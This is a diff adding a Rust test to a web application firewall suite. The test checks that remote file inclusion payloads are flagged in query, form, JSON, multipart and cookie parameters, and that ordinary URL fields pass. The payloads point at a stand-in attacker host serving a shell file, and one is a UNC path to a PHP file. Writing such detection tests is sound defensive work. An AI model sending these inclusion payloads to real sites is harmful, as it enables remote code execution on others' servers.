@@ -192,6 +192,45 @@ fn waf_reads_a_pair_with_an_odd_name_whole() {
     );
 }
 
+/// A remote URL in a parameter that selects a file is read the same in every
+/// place a parameter can be: query, form, multipart, cookie and JSON (under
+/// its key); a key that says it holds a URL keeps its URL.
+#[test]
+fn waf_reads_remote_includes_in_every_parameter_shape() {
+    let p = balanced();
+    let url = "http://evil.example/shell.txt";
+    let rfi = |v: &Verdict| assert_eq!(class_of(v), Some(Class::Rfi), "{v:?}");
+    rfi(&get(
+        &p,
+        "/index.php",
+        Some("basepath=http%3A%2F%2Fevil.example%2Fshell.txt"),
+    ));
+    rfi(&post(
+        &p,
+        "application/x-www-form-urlencoded",
+        "lang=en&path_prefix=%5C%5Cfiles.example%5Cshare%5Cx.php",
+    ));
+    rfi(&post(
+        &p,
+        "application/json",
+        &format!(r#"{{"config": {{"root_path_admin": "{url}"}}, "page": 2}}"#),
+    ));
+    let multipart = format!(
+        "--XX\r\nContent-Disposition: form-data; name=\"path_prefix\"\r\n\r\n{url}\r\n--XX--\r\n"
+    );
+    rfi(&post(&p, "multipart/form-data; boundary=XX", &multipart));
+    rfi(&head_verdict(
+        &p,
+        &[("cookie", &format!("sid=8c1f0e6b; mainpath={url}"))],
+    ));
+    for body in [
+        r#"{"file_url": "https://cdn.example.com/report.pdf", "rootUrl": "https://grafana.example.com/"}"#,
+        r#"{"avatar": "https://cdn.example.com/a.png", "path": "/home/docs"}"#,
+    ] {
+        assert_eq!(post(&p, "application/json", body), Verdict::Allow, "{body}");
+    }
+}
+
 /// Routes whose last segment is a command's name are routes: a health check
 /// at `/api/v1/ping` or a search at `/users/find` is no shell command.
 #[test]
